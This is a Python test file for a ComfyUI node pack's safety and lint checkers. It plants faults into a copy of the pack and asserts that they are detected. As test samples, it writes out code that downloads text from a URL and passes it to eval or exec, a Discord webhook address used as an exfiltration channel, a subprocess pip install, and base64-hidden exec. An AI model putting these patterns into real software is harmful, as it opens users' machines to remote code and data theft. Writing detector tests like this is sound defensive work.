"""Each check of the pack finds what it is there for; `tools/check_pack.py` runs them on the pack.

The faults are planted into a copy, so that this says nothing of the pack itself.
"""

import pytest
from check_pack import CHECKS, check
from published import copy_published

PYTHON = "msdiffusion_nodes/layout.py"
SCRIPT = "web/layout_boxes.js"
PROJECT = "pyproject.toml"
DOWNLOADED = """
import urllib.request
def configure():
    return {}(urllib.request.urlopen("https://example.org/settings.txt").read().decode())
"""


@pytest.fixture
def pack(tmp_path, checkers):
    return copy_published(tmp_path / "pack")


def plant(pack, file, text):
    with (pack / file).open("a", encoding="utf-8") as opened:
        opened.write(text)


def exchange(pack, old, new):
    text = (pack / PROJECT).read_text(encoding="utf-8")
    assert old in text
    (pack / PROJECT).write_text(text.replace(old, new), encoding="utf-8")


def found(pack, name):
    return "\n".join(check(pack, name))


@pytest.mark.parametrize("call", ["eval", "exec"])
def test_code_from_the_network_is_found(pack, call):
    plant(pack, PYTHON, DOWNLOADED.format(call))
    assert PYTHON in found(pack, "nodesafe")
    assert PYTHON in found(pack, "validate").replace("\\", "/")


@pytest.mark.parametrize(
    "text",
    [
        'import subprocess\nsubprocess.run(["pip", "install", "anything"])\n',
        'ADDRESS = "https://discord.com/api/webhooks/1"\n',
        'import base64\nexec(base64.b64decode("cHJpbnQoKQ=="))\n',
    ],
    ids=["runs pip", "sends to a chat", "hides code"],
)
def test_nodesafe_finds(pack, text):
    plant(pack, PYTHON, text)
    assert PYTHON in found(pack, "nodesafe")


@pytest.mark.parametrize(
    ("old", "new", "said"),
    [
        ('requires-comfyui = ">=0.3.75"', 'requires-comfyui = ">=0.3"', "requires-comfyui"),
        ("NVIDIA CUDA", "NVIDIA", "classifier"),
        ("OS Independent", "Any", "classifier"),
        ('version = "', 'ersion = "', "version is empty"),
        ("[project]", "[project", "parse"),
    ],
)
def test_validate_finds_in_the_pyproject(pack, old, new, said):
    exchange(pack, old, new)
    assert said in found(pack, "validate").replace("\n", " ")


def test_validate_finds_two_statements_on_a_line(pack):
    plant(pack, PYTHON, "A = 1; B = 2\n")
    assert "E702" in found(pack, "validate")


@pytest.mark.parametrize(
    ("file", "text", "said"),
    [
        (PYTHON, "def send(one):\n    return one.cuda()\n", ".cuda()"),
        (PYTHON, "ARROW = '→'\n", "cp1252"),
        (SCRIPT, "window.boxes = 1;\n", "global-write"),
        (SCRIPT, "document.body.append(0);\n", "shared-dom-injection"),
        (SCRIPT, 'app.registerExtension({ name: "other.Name" });\n', "unnamespaced-extension"),
        (SCRIPT, 'export const hook = (n) => n.comfyClass === "KSampler";\n', "foreign-node-hook"),
    ],
)
def test_lint_finds(pack, file, text, said):
    plant(pack, file, text)
    assert said in found(pack, "lint")


def test_a_check_that_cannot_run_is_a_fault(pack):
    for file in pack.rglob("*.toml"):
        file.unlink()
    (pack / "requirements.txt").unlink()
    assert found(pack, "validate")
    assert found(pack, "lint")


@pytest.mark.parametrize("name", CHECKS)
def test_a_check_leaves_the_pack_as_it_is(pack, name):
    before = {path: path.read_bytes() for path in pack.rglob("*") if path.is_file()}
    check(pack, name)
    after = {path: path.read_bytes() for path in pack.rglob("*") if path.is_file()}
    ruffs = {path for path in after if ".ruff_cache" in path.parts}
    assert {path: after[path] for path in set(after) - ruffs} == before
